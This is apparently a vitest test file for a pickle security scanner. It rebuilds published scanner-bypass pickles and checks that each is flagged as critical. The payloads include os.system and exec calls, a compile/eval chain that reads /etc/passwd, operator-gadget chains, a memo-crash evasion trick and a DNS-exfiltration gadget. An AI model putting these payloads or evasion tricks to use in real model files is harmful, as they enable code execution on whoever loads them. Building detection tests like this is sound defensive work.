import { Buffer } from "node:buffer";
import { describe, expect, it } from "vitest";
import { defaultPolicy } from "../policy/index.js";
import type { ScanIssue } from "../types.js";
import { analyzePickleStream } from "./stream.js";
import { assemble } from "./testdata/assemble.js";

/**
 * Published scanner bypasses, rebuilt byte for byte from their reports: picklescan's test
 * corpus and advisories (mmaitre314/picklescan tests/init_data_files.py, GHSA-9gvj-pp9x-gcfr,
 * GHSA-84r2-jw7c-4r5q, GHSA-q77w-mwjj-7mqx, issue #14 memo confusion, issue #22 CTF) and
 * modelscan's (protectai/modelscan issue #85 BUILD trick, PR #348 missing-memo crash).
 */

const policy = defaultPolicy();
const raw = (text: string) => new Uint8Array(Buffer.from(text, "latin1"));
const scan = (bytes: Uint8Array): ScanIssue[] => analyzePickleStream(bytes, policy).issues;
const critical = (issues: ScanIssue[]) =>
  issues.filter((i) => i.severity === "critical").map((i) => i.evidence.global);

describe("published bypasses", () => {
  it("Sour Pickles (BlackHat 2011): globals/compile/eval/getattr/apply in protocol 0", () => {
    const bytes = raw(
      "c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
    );
    expect(critical(scan(bytes))).toEqual([
      "builtins.globals",
      "builtins.compile",
      "builtins.eval",
      "builtins.getattr",
      "builtins.apply",
    ]);
  });

  it("picklescan issue #22 (CTF): names stored with PUT, fetched with GET into STACK_GLOBAL", () => {
    const bytes = raw(
      "Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.",
    );
    expect(critical(scan(bytes))).toEqual(["os.system"]);
  });

  it("GHSA-9gvj-pp9x-gcfr: STRING opcodes feeding STACK_GLOBAL without PROTO", () => {
    expect(critical(scan(raw("S'os'\nS'system'\n\x93S'ls'\n\x85R.")))).toEqual(["os.system"]);
  });

  it("keyerror exploit: payload, then a GET of a missing memo slot to crash scanners", () => {
    const bytes = raw(
      '\x80\x04cos\nsystem\nVecho "pwned by memo keyerror"\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.',
    );
    const issues = scan(bytes);
    expect(critical(issues)).toEqual(["os.system"]);
    expect(issues.find((i) => i.rule === "pickle.broken-stream")).toMatchObject({
      severity: "high",
      evidence: { kind: "memo" },
    });
  });

  it("type confusion: an int in STACK_GLOBAL's module slot", () => {
    const bytes = raw(
      '\x80\x04cos\nsystem\nVecho "x"\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.',
    );
    const issues = scan(bytes);
    expect(critical(issues)).toEqual(["os.system"]);
    expect(issues.some((i) => i.rule === "pickle.unresolvable-global")).toBe(true);
  });

  it("broken model: builtins.exec then a BINUNICODE length that runs off the end", () => {
    const bytes = raw(
      "cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.",
    );
    const issues = scan(bytes);
    expect(critical(issues)).toEqual(["builtins.exec"]);
    expect(issues.find((i) => i.rule === "pickle.broken-stream")?.evidence.kind).toBe("truncated");
  });

  it("INST with __builtin__.exec (protocol 0)", () => {
    expect(
      critical(scan(raw("(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n."))),
    ).toEqual(["builtins.exec"]);
  });

  it("GHSA-84r2-jw7c-4r5q: methodcaller('system', cmd)(pydoc.locate('os'))", () => {
    const bytes = assemble([
      ["PROTO", 4],
      ["SHORT_BINUNICODE", "operator"],
      ["SHORT_BINUNICODE", "methodcaller"],
      ["STACK_GLOBAL"],
      ["SHORT_BINUNICODE", "system"],
      ["SHORT_BINUNICODE", "echo pwned"],
      ["TUPLE2"],
      ["REDUCE"],
      ["SHORT_BINUNICODE", "pydoc"],
      ["SHORT_BINUNICODE", "locate"],
      ["STACK_GLOBAL"],
      ["SHORT_BINUNICODE", "os"],
      ["TUPLE1"],
      ["REDUCE"],
      ["TUPLE1"],
      ["REDUCE"],
      ["STOP"],
    ]);
    const issues = scan(bytes);
    expect(critical(issues)).toEqual(["operator.methodcaller", "pydoc.locate", "os", "os.system"]);
    expect(issues.find((i) => i.evidence.global === "os.system")?.evidence).toMatchObject({
      called: true,
      via: "operator.methodcaller",
    });
  });

  it("picklescan malicious12: attrgetter('system')(__import__('os'))('echo pwned') through MEMOIZE", () => {
    const bytes = assemble([
      ["PROTO", 4],
      ["SHORT_BINUNICODE", "operator"],
      ["MEMOIZE"],
      ["SHORT_BINUNICODE", "attrgetter"],
      ["MEMOIZE"],
      ["STACK_GLOBAL"],
      ["MEMOIZE"],
      ["SHORT_BINUNICODE", "system"],
      ["MEMOIZE"],
      ["TUPLE1"],
      ["MEMOIZE"],
      ["REDUCE"],
      ["MEMOIZE"],
      ["SHORT_BINUNICODE", "builtins"],
      ["MEMOIZE"],
      ["SHORT_BINUNICODE", "__import__"],
      ["MEMOIZE"],
      ["STACK_GLOBAL"],
      ["MEMOIZE"],
      ["SHORT_BINUNICODE", "os"],
      ["MEMOIZE"],
      ["TUPLE1"],
      ["MEMOIZE"],
      ["REDUCE"],
      ["MEMOIZE"],
      ["TUPLE1"],
      ["MEMOIZE"],
      ["REDUCE"],
      ["MEMOIZE"],
      ["SHORT_BINUNICODE", "echo pwned"],
      ["MEMOIZE"],
      ["TUPLE1"],
      ["MEMOIZE"],
      ["REDUCE"],
      ["MEMOIZE"],
      ["STOP"],
    ]);
    const issues = scan(bytes);
    expect(issues.find((i) => i.evidence.global === "os.system")).toMatchObject({
      severity: "critical",
      evidence: { called: true, via: "operator.attrgetter" },
    });
  });

  it("partial(torch.load, path, weights_only=False)() stays critical through the allowlisted partial", () => {
    const bytes = assemble([
      ["PROTO", 4],
      ["SHORT_BINUNICODE", "functools"],
      ["SHORT_BINUNICODE", "partial"],
      ["STACK_GLOBAL"],
      ["SHORT_BINUNICODE", "torch.serialization"],
      ["SHORT_BINUNICODE", "load"],
      ["STACK_GLOBAL"],
      ["TUPLE1"],
      ["REDUCE"],
      ["EMPTY_TUPLE"],
      ["REDUCE"],
      ["STOP"],
    ]);
    expect(scan(bytes).find((i) => i.evidence.global === "torch.serialization.load")).toMatchObject(
      {
        severity: "critical",
        evidence: { called: true },
      },
    );
  });

  it("GHSA-q77w-mwjj-7mqx: asyncio.unix_events._UnixSubprocessTransport._start", () => {
    const bytes = assemble([
      ["PROTO", 4],
      ["SHORT_BINUNICODE", "asyncio.unix_events"],
      ["SHORT_BINUNICODE", "_UnixSubprocessTransport._start"],
      ["STACK_GLOBAL"],
      ["STOP"],
    ]);
    expect(critical(scan(bytes))).toEqual(["asyncio.unix_events._UnixSubprocessTransport._start"]);
  });

  it("DNS exfiltration: getattr(ssl module, 'get_server_certificate')", () => {
    const bytes = assemble([
      ["PROTO", 2],
      ["GLOBAL", "builtins", "getattr"],
      ["GLOBAL", "builtins", "__import__"],
      ["BINUNICODE", "ssl"],
      ["TUPLE1"],
      ["REDUCE"],
      ["BINUNICODE", "get_server_certificate"],
      ["TUPLE2"],
      ["REDUCE"],
      ["BINUNICODE", "x.invalid"],
      ["BININT2", 443],
      ["TUPLE2"],
      ["TUPLE1"],
      ["REDUCE"],
      ["STOP"],
    ]);
    expect(critical(scan(bytes))).toContain("ssl.get_server_certificate");
  });
});
